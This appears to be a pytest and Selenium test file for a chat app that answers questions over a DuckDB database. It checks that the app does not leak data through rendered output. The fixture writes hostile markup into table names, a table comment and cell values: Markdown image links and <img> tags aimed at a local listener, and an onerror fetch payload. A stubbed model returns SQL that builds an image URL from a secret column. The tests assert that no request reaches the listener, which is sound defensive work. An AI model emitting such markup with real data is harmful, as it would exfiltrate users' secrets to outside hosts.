"""A database whose names and values would like to be Markdown, HTML or pictures of another host, in a real browser."""

import os
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import duckdb
import pytest

pytest.importorskip("selenium.webdriver", reason="selenium is not installed")

from app.chat.server import KEY, streamlit_command
from tests.app.chat import test_browser as page
from tests.app.chat.test_browser import Chat, driver, pytestmark, until

__all__ = ["driver", "pytestmark"]

ONE, MANY = "What is the one secret there is?", "How much for each image?"


class Listener(BaseHTTPRequestHandler):
    """Another host: what is asked of it has leaked. It also is the model, which leaks nothing by being asked."""

    leaked: ClassVar[list[str]] = []
    base: ClassVar[str] = ""

    def do_GET(self) -> None:
        self.leaked.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


class Model(page.Stub):
    """As the browser tests' stub, with questions of its own."""

    def do_POST(self) -> None:
        sql = {
            ONE: f"SELECT '![](//{Listener.base}/metric-' || secret || ')' AS s FROM t LIMIT 1",
            MANY: "SELECT image, sum(amount) AS total FROM t GROUP BY ALL ORDER BY total",
        }
        page.SQL, before = sql, page.SQL
        try:
            super().do_POST()
        finally:
            page.SQL = before


@pytest.fixture(scope="module")
def app_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    page.Stub.gate.set()
    servers = [ThreadingHTTPServer(("127.0.0.1", 0), kind) for kind in (Listener, Model)]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    Listener.base = f"127.0.0.1:{servers[0].server_port}"
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "shop.duckdb"
    bait = f"![x](http://{Listener.base}/"
    with duckdb.connect(str(path)) as connection:
        connection.execute(
            f'CREATE TABLE t (day DATE, image VARCHAR, amount INTEGER, secret VARCHAR, "{bait}column)" VARCHAR)'
        )
        connection.execute(f'CREATE TABLE "{bait}table)" (id INTEGER, "<img src=http://{Listener.base}/html>" INTEGER)')
        connection.execute(f"COMMENT ON TABLE t IS '{bait}comment) <img src=x onerror=fetch(1)>'")
        for number in range(12):
            values = [f"2026-01-0{number // 3 + 1}", f"http://{Listener.base}/cell{number % 3}.png", number]
            connection.execute("INSERT INTO t VALUES (?, ?, ?, 's3cret', 'x')", values)
    empty = folder / "empty"
    empty.mkdir()
    port = servers[1].server_port
    environment = os.environ | {
        "ARCTIC_COPILOT_MODEL": f"http://127.0.0.1:{port}/v1#stub",
        "ARCTIC_COPILOT_CACHE_DIR": str(folder / "cache"),
        "ARCTIC_COPILOT_WAREHOUSE": str(path),
        KEY: "a-key",
    }
    free = _free_port()
    command = [*streamlit_command(free, empty), "--server.headless=true"]
    with (folder / "app.log").open("w") as log:
        app = subprocess.Popen(command, env=environment, stdout=log, stderr=log, cwd=empty)
    url = f"http://127.0.0.1:{free}/a-key"
    until(lambda: page.is_up(f"{url}/_stcore/health"))
    yield url
    app.kill()
    app.wait(10)
    for server in servers:
        server.shutdown()


def _free_port() -> int:
    import socket

    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return int(free.getsockname()[1])


@pytest.fixture
def chat(driver: Any, app_url: str) -> Chat:
    return Chat(driver, app_url)


def pictures(chat: Chat) -> list[str]:
    """The sources of all pictures on the page that are of another host."""
    sources = chat.run("return [...document.querySelectorAll('img')].map(image => image.src)")
    return [source for source in sources if Listener.base in source]


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_names_and_comments_are_shown_as_they_are(chat: Chat, theme: str, tmp_path: Path) -> None:
    chat.open(theme=theme)
    until(lambda: "![x](" in chat.text)
    assert pictures(chat) == []
    assert Listener.leaked == []


def test_a_value_written_large_is_no_picture(chat: Chat) -> None:
    chat.open().asked(ONE)
    assert "/metric-s3cret)" in chat.find("stMetricValue")[0].text
    assert pictures(chat) == []
    assert Listener.leaked == []


def _hovered(chat: Chat) -> str:
    """What the tooltips say while the pointer goes down the chart's bars, wherever the page has scrolled to."""
    told = []
    box = chat.run(
        "const chart = document.querySelector('[data-testid=stVegaLiteChart]');"
        "chart.scrollIntoView({block: 'center'}); return chart.getBoundingClientRect().toJSON()"
    )
    for y in range(int(box["top"]), int(box["bottom"]), 10):
        at = {"type": "mouseMoved", "x": box["left"] + box["width"] / 2, "y": y}
        chat.driver.execute_cdp_cmd("Input.dispatchMouseEvent", at)
        told.append(str(chat.run("return document.querySelector('#vg-tooltip-element')?.innerText")))
    return "\n".join(told)


def test_a_chart_of_pictures_draws_none_on_hover(chat: Chat) -> None:
    chat.open().asked(MANY)
    until(lambda: bool(chat.find("stVegaLiteChart")))
    until(lambda: "/cell1.png" in _hovered(chat))
    assert pictures(chat) == []
    assert Listener.leaked == []


def test_the_page_may_load_nothing_of_another_host(chat: Chat) -> None:
    """Even markup that gets past the escaping: the browser is told to load nothing from elsewhere."""
    chat.open()
    chat.run(f"const image = new Image(); image.src = 'http://{Listener.base}/script.png'; document.body.append(image)")
    chat.run(f"fetch('http://{Listener.base}/fetch').catch(() => 0)")
    chat.run("return new Promise(done => setTimeout(done, 500))")
    assert Listener.leaked == []
